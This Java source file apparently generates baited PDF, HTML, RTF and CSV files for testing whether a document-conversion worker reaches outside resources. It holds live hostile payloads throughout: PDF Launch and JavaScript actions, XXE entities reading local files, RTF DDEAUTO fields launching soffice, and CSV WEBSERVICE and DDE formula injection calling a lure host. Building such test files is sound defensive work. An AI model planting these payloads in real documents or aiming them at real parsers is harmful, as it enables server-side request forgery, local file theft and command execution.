package io.switchpost.document.worker;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** PDF, HTML, RTF and CSV that refer to what is outside of them. */
final class BaitedPages {
  private BaitedPages() {}

  static void pdf(Path file, Lure lure) throws IOException {
    String http = "(http://" + lure.host() + "/pdf)";
    String near = "(" + lure.picture().substring("file://".length()) + ")";
    String content =
        "0 0 0 rg 50 700 100 20 re f q 300 0 0 300 50 300 cm /Far Do Q /Ref Do /Data Do";
    new RawPdf()
            .add(
                """
            << /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F %2$s /Next << /S /URI /URI %1$s >> >> \
            /AA << /WC << /S /JavaScript /JS (app.launchURL%1$s; this.submitForm%1$s) >> >> \
            /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (getURL%1$s) >>] >> >> \
            /URI << /Base %1$s >> /AcroForm << /Fields [] /XFA 9 0 R /NeedAppearances true >> >>"""
                    .formatted(http, near))
            .add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
            .add(
                """
            << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 8 0 R] /Annots [7 0 R 10 0 R] \
            /AA << /O << /S /URI /URI %1$s >> >> /Resources << /XObject << /Far 5 0 R /Ref 6 0 R /Data 11 0 R >> >> >>"""
                    .formatted(http))
            .stream("", content.getBytes())
            .stream(
                "/Subtype /Image /Width 100 /Height 100 /BitsPerComponent 8 /ColorSpace /DeviceGray "
                    + "/F << /FS /URL /F %s >> ".formatted(http),
                new byte[0])
            .stream(
                """
            /Subtype /Form /BBox [0 0 400 400] \
            /Ref << /F << /Type /Filespec /F %1$s /UF %1$s >> /Page 0 >>"""
                    .formatted(near),
                "0 0 20 20 re f".getBytes())
            .add(
                """
            << /Type /Annot /Subtype /Movie /Rect [50 50 300 300] /Movie << /F %2$s /Poster true >> \
            /A << /S /GoToR /F %2$s /D [0 /Fit] >> /AP << /N %3$s >> >>"""
                    .formatted(http, near, "12 0 R"))
            .stream("/F %s ".formatted(near), new byte[0])
            .stream(
                "",
                """
            <!DOCTYPE x [<!ENTITY n SYSTEM "%2$s"><!ENTITY t SYSTEM "http://%1$s/xfa">]>
            <xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><draw><value>
            <image href="http://%1$s/xfa.png"/><text>&n;&t;</text></value></draw></subform></template></xdp:xdp>"""
                    .formatted(lure.host(), lure.text())
                    .getBytes())
            .add(
                "<< /Type /Annot /Subtype /FileAttachment /Rect [350 50 500 300] /FS << /Type /Filespec /FS /URL /F %s >> >>"
                    .formatted(http))
            .stream(
                "/Subtype /Image /Width 100 /Height 100 /BitsPerComponent 8 /ColorSpace /DeviceGray /F %s "
                    .formatted(near),
                new byte[0])
            .stream("/Subtype /Form /BBox [0 0 10 10] ", "0 0 5 5 re f".getBytes())
            .in(file);
  }

  static void html(Path file, Lure lure) throws IOException {
    Files.writeString(
        file,
        """
        <!DOCTYPE html [<!ENTITY near SYSTEM "%2$s">]>
        <html><head><base href="http://%1$s/"><meta http-equiv="refresh" content="0;url=http://%1$s/go">
        <link rel="stylesheet" href="a.css"><style>@import url(http://%1$s/b.css); @import "%2$s";
        @font-face { font-family: far; src: url(http://%1$s/f.ttf) } body { font-family: far, sans-serif;
        background: url(http://%1$s/c.png) } li { list-style-image: url(http://%1$s/l.png) }
        p:before { content: url(%3$s) }</style></head><body background="http://%1$s/g.png">
        <h1>What HTML may want</h1><p>&near;</p><ul><li>one</ul>
        <img src="http://%1$s/d.png"><img src="%3$s"><img srcset="http://%1$s/s.png 2x"><img src="d.png">
        <picture><source srcset="http://%1$s/p.webp"></picture><input type="image" src="%3$s">
        <iframe src="http://%1$s/e"></iframe><iframe src="%2$s"></iframe><embed src="%3$s">
        <object data="%3$s"></object><video poster="http://%1$s/v.png" src="http://%1$s/v.mp4"></video>
        <svg xmlns="http://www.w3.org/2000/svg"><image href="%3$s" width="300" height="300"/></svg>
        <img src="jar:%3$s!/x"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='%3$s'/></svg>">
        <script src="http://%1$s/s.js"></script></body></html>
        """
            .formatted(lure.host(), lure.text(), lure.picture()));
  }

  static void rtf(Path file, Lure lure) throws IOException {
    Files.writeString(
        file,
        """
        {\\rtf1{\\*\\template http://%1$s/a.dotm}{\\pard What RTF may want\\par}
        {\\field{\\*\\fldinst INCLUDEPICTURE "http://%1$s/x.png" \\\\\\\\d}{\\fldrslt old}}
        {\\field{\\*\\fldinst INCLUDEPICTURE "%3$s" \\\\\\\\d}{\\fldrslt old}}
        {\\field{\\*\\fldinst INCLUDETEXT "%2$s"}{\\fldrslt old}}
        {\\field{\\*\\fldinst DDEAUTO soffice "%2$s" all}{\\fldrslt old}}
        {\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Excel.Sheet.12}{\\*\\objname http://%1$s/o.xlsx}}
        {\\*\\filetbl{\\file\\fid1 http://%1$s/sub.rtf}}{\\subdocument1}\\par}
        """
            .formatted(lure.host(), lure.text(), lure.picture()));
  }

  static void csv(Path file, Lure lure) throws IOException {
    Files.writeString(
        file,
        """
        What CSV may want,2
        "=WEBSERVICE(""http://%1$s/csv"")",=DDE("soffice";"%2$s";"all")
        "='%2$s'#$Sheet1.A1","='http://%1$s/x.ods'#$Sheet1.A1"
        """
            .formatted(lure.host(), lure.text()));
  }
}
